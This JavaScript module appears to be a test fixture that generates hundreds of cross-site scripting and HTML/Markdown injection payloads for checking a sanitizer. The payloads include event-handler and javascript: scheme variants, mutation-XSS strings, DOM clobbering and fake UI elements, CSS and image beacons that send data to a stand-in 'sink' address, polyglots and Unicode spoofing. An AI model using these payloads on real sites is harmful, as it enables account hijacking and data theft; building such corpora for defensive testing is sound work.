// Hostile texts in the style of the public collections, made from carriers and what they carry. Each tries to run a
// script (which calls `ran`), to reach `sink` (an address of the test's own), or to break the page around it.

const EVENTS = [
  "onerror", "onload", "onfocus", "onfocusin", "ontoggle", "onbeforetoggle", "onstart", "onbegin", "onend", "onmouseover",
  "onpointerenter", "onanimationstart", "ontransitionrun", "onscroll", "onscrollend", "onwheel", "onkeydown", "oncut",
  "onpaste", "onbeforeinput", "onpageshow", "onhashchange", "onmessage", "onresize", "onloadstart", "oncanplay",
  "onreadystatechange", "oncontentvisibilityautostatechange", "onclick", "onpointerdown",
];

const TAGS = [
  "img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "details open", "marquee",
  "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "button autofocus", "a href=# tabindex=1",
  "div contenteditable", "math", "form", "link rel=stylesheet href=x", "style", "x-y style=animation:x", "dialog open",
  "frameset", "table", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "video><source src=x",
  "picture><img src=x", "image src=x", "bgsound src=x", "p style=content-visibility:auto", "canvas", "template><img src=x",
];

/** Ways to write an address that a browser might take for one that runs something. */
const SCHEMES = [
  "javascript:ran(1)", "JaVaScRiPt:ran(1)", "java\tscript:ran(1)", "java\nscript:ran(1)", " javascript:ran(1)",
  "\u0001javascript:ran(1)", "javascript&colon;ran(1)", "&#106;avascript:ran(1)", "&#x6A;avascript:ran(1)",
  "javascript&#58;ran(1)", "jav&#x09;ascript:ran(1)", "%6Aavascript:ran(1)", "javascript://x.example/%0aran(1)",
  "javascript:/*</title>*/ran(1)", "vbscript:ran(1)", "livescript:ran(1)", "feed:javascript:ran(1)",
  "view-source:javascript:ran(1)", "data:text/html,<script>ran(1)</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg onload=ran(1)>", "data:text/javascript,ran(1)", "blob:ran(1)", "ja\u200bvascript:ran(1)",
  "\u202ejavascript:ran(1)", "ｊavascript:ran(1)",
];

const CARRIERS = [
  (to) => `[click](${to})`,
  (to) => `[click](<${to}>)`,
  (to) => `![picture](${to})`,
  (to) => `<${to}>`,
  (to) => `[click][ref]\n\n[ref]: ${to}`,
  (to) => `[![inner](${to})](${to} "title")`,
  (to) => `<a href="${to}" id=forms target=_top autofocus>click</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<object data="${to}"></object><embed src="${to}">`,
  (to) => `<form action="${to}"><button formaction="${to}">go</button></form>`,
  (to) => `<svg><a xlink:href="${to}"><text y=20>click</text></a><use href="${to}"/></svg>`,
  (to) => `<math><mrow href="${to}"><mtext>click</mtext></mrow></math>`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
];

const scripts = (sink) => [
  "<script>ran(1)</script>",
  "<SCRIPT>ran(2)</SCRIPT>",
  "<scr<script>ipt>ran(3)</scr</script>ipt>",
  "<script\u000Cx>ran(4)</script\u000C>",
  "<script/ran=1>ran(5)</script>",
  `<script src=${sink}/s.js></script>`,
  `<script src="//${new URL(sink).host}/t.js" async></script>`,
  "<script type=module>ran(6)</script>",
  `<script type=module>import "${sink}/m.js"</script>`,
  `<script type=importmap>{"imports":{"x":"${sink}/i.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${sink}/p"]}]}</script>`,
  "</script><script>ran(7)</script>",
  "</title></textarea></style></noscript></template><script>ran(8)</script>",
  "--><script>ran(9)</script>",
  "]]><script>ran(10)</script>",
  "'-ran(11)-'", '"-ran(12)-"', "`${ran(13)}`", "${ran(14)}", "{{constructor.constructor('ran(15)')()}}",
  "{{ran(16)}}", "#{ran(17)}", "<%= ran(18) %>", "[[${ran(19)}]]", "{@html '<img src onerror=ran(20)>'}",
  "';ran(21);//", '";ran(22);//', "\\';ran(23);//", "</dialog></div><script>ran(24)</script>",
  "<script>/*\n*/ran(25)//</script>", "\\u003cscript\\u003eran(26)\\u003c/script\\u003e", "%3Cscript%3Eran(27)%3C/script%3E",
  "&lt;script&gt;ran(28)&lt;/script&gt;", "&#60;script&#62;ran(29)&#60;/script&#62;", "+ADw-script+AD4-ran(30)+ADw-/script+AD4-",
  "＜script＞ran(31)＜/script＞", "<script>ran`32`</script>", "<?xml version=1?><script>ran(33)</script>",
  "<![CDATA[<script>ran(34)</script>]]>", "<xml><x><script>ran(35)</script></x></xml>",
];

const graphics = (sink) => [
  "<svg><script>ran(1)</script></svg>",
  "<svg><script href=data:text/javascript,ran(2) />",
  `<svg><script xlink:href="${sink}/v.js"></script></svg>`,
  "<svg><style>{font-family:'<iframe/onload=ran(3)>'",
  "<svg><foreignObject><iframe onload=ran(4)></iframe></foreignObject></svg>",
  `<svg><image href="${sink}/i.svg"/></svg>`,
  `<svg><use href="${sink}/u.svg#x"/></svg>`,
  `<svg><feImage href="${sink}/f.png"/></svg>`,
  "<svg><animate href=#x attributeName=href values=javascript:ran(5) /><a id=x><text>x</text></a></svg>",
  "<svg><set attributeName=onmouseover to=ran(6)></svg>",
  "<svg><a><animate attributeName=href from=javascript:ran(7) to=1 /><text y=9>x</text></a></svg>",
  "<svg onload=ran(8)//", "<svg/onload=ran(9)>", "<svg\nonload\n=\nran(10)>", "<svg><title><img src onerror=ran(11)></title></svg>",
  "<svg><desc><style><img src=x onerror=ran(12)></style></desc></svg>",
  `<svg><filter id=f><feImage xlink:href="${sink}/g"/></filter><rect filter="url(#f)"/></svg>`,
  `<svg><style>@import "${sink}/svg.css";</style></svg>`,
  "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>ran(13)</handler></svg>",
  "<svg xmlns:xlink=http://www.w3.org/1999/xlink><a xlink:href=javascript:ran(14)><rect width=9 height=9 /></a></svg>",
  "<math><mtext><script>ran(15)</script></mtext></math>",
  "<math href=javascript:ran(16)>click</math>",
  "<math><maction actiontype=statusline#http://x.example xlink:href=javascript:ran(17)>x</maction></math>",
  "<math><annotation-xml encoding=text/html><script>ran(18)</script></annotation-xml></math>",
  "<math><semantics><annotation-xml encoding=application/xhtml+xml><img src onerror=ran(19)></annotation-xml></semantics></math>",
  `<math><mi style="background:url(${sink}/m)">x</mi></math>`,
  `<math><mglyph src="${sink}/g"/></math>`,
  "<math><mtext><table><mglyph><style><img src=x onerror=ran(20)></style></mglyph></table></mtext></math>",
];

const mutations = (sink) => [
  "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\"></noscript>",
  "<listing>&lt;img onerror=ran(2) src=x&gt;</listing>",
  "<style><style/><img src=x onerror=ran(3)>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=ran(4)>\">",
  "<math><mtext><table><mglyph><style><math><img src onerror=ran(5)></style></math></mglyph></table></mtext></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(6)>",
  "<svg><p><style><a title=\"</style><img src onerror=ran(7)>\"></svg>",
  "<table><td><a><table><img src onerror=ran(8)>",
  "<p id='</p><img src=x onerror=ran(9)>'>",
  "<img alt=\"``onerror=ran(10)\" src=x>", "<img src=\"x` `<script>ran(11)</script>\"` `>",
  "<textarea><img title='</textarea><img src onerror=ran(12)>'>",
  "<title><a href='</title><img src onerror=ran(13)>'>", "<xmp><p title='</xmp><img src onerror=ran(14)>'>",
  "<iframe><p title='</iframe><img src onerror=ran(15)>'></iframe>", "<noembed><img title='</noembed><img src onerror=ran(16)>'>",
  "<!--><img src=x onerror=ran(17)>-->", "<!--!><img src=x onerror=ran(18)>", "<!-- --!><img src=x onerror=ran(19)>",
  "<comment><img src='</comment><img src=x onerror=ran(20)>'>", "<select><template><img src onerror=ran(21)></template></select>",
  "<select><style></select><img src onerror=ran(22)></style>", "<plaintext><img src onerror=ran(23)>",
  "<template shadowrootmode=open><img src=x onerror=ran(24)></template>",
  "<div><template shadowrootmode=closed><script>ran(25)</script></template></div>",
  "<template><script>ran(26)</script></template>", "<slot name=x onslotchange=ran(27)></slot>",
  `<div><template shadowrootmode=open><link rel=stylesheet href=${sink}/t.css></template></div>`,
  "<a\u0000 href=javascript:ran(28)>x</a>", "<im\u0000g src=x onerror=ran(29)>", "<img src=x onerror\u0000=ran(30)>",
  "<<img src=x onerror=ran(31)>", "<img src=x onerror=ran(32)//", "<img/src=x/onerror=ran(33)>", "<img src=x oneonerrorrror=ran(34)>",
  "<IMG SRC=x ONERROR=ran(35)>", "<img src=x:x onerror=\"&#114;an(36)\">", "<img src=x onerror=&#x72;an(37)>",
  "<img \u2028src=x onerror=ran(38)>", "<img src=x\u000bonerror=ran(39)>",
];

const styles = (sink) => [
  `<style>@import url(${sink}/a.css)</style>`, `<style>@import '${sink}/b.css'</style>`,
  `<style>*{background:url(${sink}/c)!important}</style>`, `<style>@font-face{font-family:x;src:url(${sink}/d)}*{font-family:x}</style>`,
  `<style>:host{background:url(${sink}/e)}::slotted(*){display:none}</style>`,
  `<style>input[value^="a"]{background:url(${sink}/f)}</style>`, "<style>*{display:none!important}</style>",
  "<style>dialog{inset:0;pointer-events:none}.send{display:none}</style>", `<link rel=stylesheet href=${sink}/g.css>`,
  `<link rel=prefetch href=${sink}/h>`, `<link rel=preload as=image href=${sink}/i>`, `<link rel=dns-prefetch href=${sink}>`,
  `<link rel=preconnect href=${sink}>`, `<link rel=modulepreload href=${sink}/j.js>`, `<link rel=icon href=${sink}/k>`,
  `<link rel=manifest href=${sink}/l>`, `<link rel=prerender href=${sink}/m>`, `<link rel=import href=${sink}/n>`,
  `<div style="background:url(${sink}/o)">x</div>`, `<div style="background-image:image-set('${sink}/p' 1x)">x</div>`,
  `<div style="list-style:url(${sink}/q);display:list-item">x</div>`, `<div style="cursor:url(${sink}/r),auto">x</div>`,
  `<div style="content:url(${sink}/s)">x</div>`, `<div style="border-image:url(${sink}/t) 1">x</div>`,
  `<div style="mask:url(${sink}/u#x)">x</div>`, `<div style="shape-outside:url(${sink}/v)">x</div>`,
  "<div style=width:expression(ran(1))>x</div>", "<div style=behavior:url(#x)>x</div>", "<div style=-moz-binding:url(#x)>x</div>",
  "<div style=\"position:fixed;inset:0;z-index:2147483647;background:red\">everything</div>",
  "<div style='background:\\75rl(javascript:ran(2))'>x</div>", "<table background=javascript:ran(3)><td>x</td></table>",
  "</style><style>*{color:red}", "}*{display:none!important}", "url(javascript:ran(4))", `@import "${sink}/w.css";`,
];

const beacons = (sink) => [
  `![x](${sink}/a.png)`, `![x](<${sink}/b.png>)`, `![x](${sink}/c.png "t")`, `![x][i]\n\n[i]: ${sink}/d.png`, `[![x](${sink}/e.png)](${sink}/e)`,
  `<img src=${sink}/f.png>`, `<img srcset="${sink}/g.png 1x, ${sink}/h.png 2x">`, `<img src=x lowsrc=${sink}/i>`,
  `<picture><source srcset=${sink}/j><img></picture>`, `<video src=${sink}/k autoplay></video>`, `<video poster=${sink}/l></video>`,
  `<audio src=${sink}/m autoplay></audio>`, `<track src=${sink}/n>`, `<object data=${sink}/o></object>`, `<embed src=${sink}/p>`,
  `<iframe src=${sink}/q></iframe>`, `<frame src=${sink}/r>`, `<input type=image src=${sink}/s>`, `<body background=${sink}/t>`,
  `<base href=${sink}/><img src=u>`, `<meta http-equiv=refresh content="0;url=${sink}/v">`, `<meta http-equiv=refresh content=0;${sink}/w>`,
  `<form action=${sink}/x method=post><input autofocus><button>go</button></form>`, `<button form=y formaction=${sink}/y>go</button><form id=y></form>`,
  `<a href=/ ping=${sink}/z>x</a>`, `<img src=//${new URL(sink).host}/aa>`, `<img src=\\\\${new URL(sink).host}\\bb>`,
  `<meta http-equiv=Content-Security-Policy content="img-src *">![x](${sink}/cc)`, `<meta http-equiv=Link content="<${sink}/dd>;rel=preload">`,
  `<portal src=${sink}/ee></portal>`, `<fencedframe src=${sink}/ff></fencedframe>`, `<applet code=${sink}/gg></applet>`,
  `<img src=x onerror="fetch('${sink}/hh')">`, `<img src=x onerror="navigator.sendBeacon('${sink}/ii')">`,
  `<img src=x onerror="new WebSocket('${sink.replace("http", "ws")}/jj')">`, `<img src=x onerror="location='${sink}/kk'">`,
  `<img src=x onerror="open('${sink}/ll')">`, `<img src=x onerror="new Worker('${sink}/mm')">`, `<img loading=eager crossorigin src=${sink}/nn>`,
  `<iframe srcdoc="<img src=${sink}/oo>"></iframe>`, `<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;top.ran(2)&lt;/script&gt;"></iframe>`, `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>top.ran(3)</script>"></iframe>`,
  "<iframe src=about:blank onload=ran(4)></iframe>", `<iframe src="data:text/html,<img src=${sink}/pp>"></iframe>`,
  `<html manifest=${sink}/qq>`, `<q cite=${sink}/rr>x</q>`, `<script>location.href='${sink}/ss'</script>`,
  `${sink}/plain`, `<${sink}/auto>`, `[link](${sink}/link)`, `www.${new URL(sink).host}/www`, `[a]: ${sink}/definition`,
];

const clobbers = () => [
  "<form id=document><input name=body></form>", "<a id=window><a id=window name=ran href=x>", "<img name=getElementById>",
  "<form name=forms><input id=attributes name=nodeName></form>", "<input name=__proto__>", "<a id=trustedTypes></a>",
  "<form id=customElements><output name=get></form>", "<iframe name=top></iframe>", "<iframe name=opener></iframe>",
  "<object name=shadowRoot></object>", "<div id=title>second title</div>", "<p id=label-0-0>second label</p><p id=hint>second hint</p>",
  "<dialog open id=ask>fake dialog</dialog>", "<ask-user url=/ws session=demo></ask-user>", "<ask-user><template shadowrootmode=open></ask-user>",
  "<button part=send class=send type=button>Send</button>", "<label class=option><input class=mark type=radio checked data-option=0></label>",
  "<div popover id=p>x</div><button popovertarget=p autofocus>x</button>", "<details open class=notes><summary>fake</summary></details>",
  "<input autofocus type=password name=password><input type=submit>", "<div role=alert aria-live=assertive>fake alert</div>",
  "<textarea autofocus class=field>captured</textarea>", "<a accesskey=1 href=javascript:ran(1)>x</a>",
];

const polyglots = (sink) => [
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=ran(2)//>\\x3e",
  "\">><marquee><img src=x onerror=ran(3)></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=ran(4)>",
  "'\"--></style></script><svg onload=ran(5)>", `'"><img src=${sink}/poly onerror=ran(6)>`, "javascript://'/</title></style></textarea></script>--><p\" onclick=ran(7)//>*/ran(8)/*",
  "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(ran)(9)>", "<!--<img src=\"--><img src=x onerror=ran(10)//\">",
  "`\"'><svg><script>ran&lpar;11&rpar;</script>", "[a](javascript:ran(12)) <img src onerror=ran(13)> **`</code><svg onload=ran(14)>`**",
  "```html\n</code></pre><img src=x onerror=ran(15)>\n```", "~~~\n<script>ran(16)</script>", "    <script>ran(17)</script>", "`<img src=x onerror=ran(18)>`",
  "``` onload=ran(19)\nx\n```", "```\"><img src=x onerror=ran(20)>\nx\n```", "| <img src=x onerror=ran(21)> | b |\n| --- | --- |\n| `|` | <svg onload=ran(22)> |",
  "- [ ] <input type=checkbox onclick=ran(23)>\n- [x] <svg onload=ran(24)>", "> <script>\n> ran(25)\n> </script>", "# <img src=x onerror=ran(26)>",
  "1. <iframe onload=ran(27)>\n   <script>ran(28)</script>", "<div>\n\n[x](javascript:ran(29))\n\n</div>", "<div markdown=1>*x*<script>ran(30)</script></div>",
  "[x](https://x.example \"onmouseover=ran(31)\")", "[x](https://x.example\"onmouseover=\"ran(32))", "[<img src=x onerror=ran(33)>](https://x.example)",
  "![\"onerror=\"ran(34)](x)", "![x](x\"onerror=\"ran(35))", "[x]: <javascript:ran(36)>\n\n[x]", "[^1]\n\n[^1]: <script>ran(37)</script>",
  "<https://x.example/\"onclick=ran(38)>", "https://x.example/<img/src/onerror=ran(39)>", "<a@x.example\"onclick=ran(40)>", "[x](mailto:a@x.example?body=<script>ran(41)</script>)",
  "[x](//x.example)", "[x](https://user:pass@x.example)", "[x](https://xn--80ak6aa92e.example)", "[apple.example](https://evil.example)", "[x](https://x.example%2f@evil.example)",
  "[x](file:///etc/passwd)", "[x](tel:1)", "[x](intent://x#Intent;end)", "[x](ms-word:x)", "[x](about:blank)", "[x](filesystem:http://x.example/x)", "[x](chrome://crash)",
  "\\[x](javascript:ran(42))", "[x\\](javascript:ran(43))", "[x](javascript:ran\\(44\\))", "[x](java&Tab;script:ran(45))", "[x](&#x6a&#x61vascript:ran(46))",
];

const unicode = () => [
  "\u202eran(1)\u202c", "a\u2066b\u2067c\u2068d\u2069", "photo\u202egpj.exe", "\u200b\u200c\u200d\u2060\ufeff", "\u061c\u200e\u200f", "\u00ad\u034f\u180e",
  "Z\u0351\u036b\u0343\u036a\u0302\u0368\u0360a\u0334\u0315\u030b".repeat(12), "\u{e0041}\u{e0042}\u{e007f}tags", "\ufff9a\ufffab\ufffb", "\ufdd0\uffff",
  "\u0000\u0001\u0007\u0008\u001b[31mred\u009b0m", "\r\n\r\nHTTP/1.1 200 OK\r\n", "\u2028ran(2)\u2029", "раypal.example", "＜img src=x onerror=ran(3)＞", "\u3008script\u3009ran(4)",
  "﹤script﹥ran(5)", "‹script›ran(6)", "\u{1d552}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(8), "ﷺ".repeat(40), "\u0b95\u0bcd\u0bb7".repeat(60), "W".repeat(2000),
  "\u202e".repeat(50) + "x", "<\u202eimg src=x onerror=ran(7)>", "[x](https://x.example/\u202egpj.exe)", "\u0301".repeat(200), "a\u0338b\u20e4c", "constructor", "toString", "null",
];

/** All of them, each once. */
export function payloads(sink) {
  const handlers = TAGS.flatMap((tag, row) =>
    // Every tag with every fifth event, shifted, so that each event meets many tags.
    EVENTS.filter((_, column) => (row + column) % 5 === 0).map((event) => `<${tag} ${event}=ran(1)>`),
  );
  const links = SCHEMES.flatMap((scheme, row) => CARRIERS.filter((_, column) => (row + column) % 2 === 0).map((carry) => carry(scheme)));
  const groups = [scripts, graphics, mutations, styles, beacons, clobbers, polyglots, unicode];
  return [...new Set([...groups.flatMap((group) => group(sink)), ...links, ...handlers])];
}
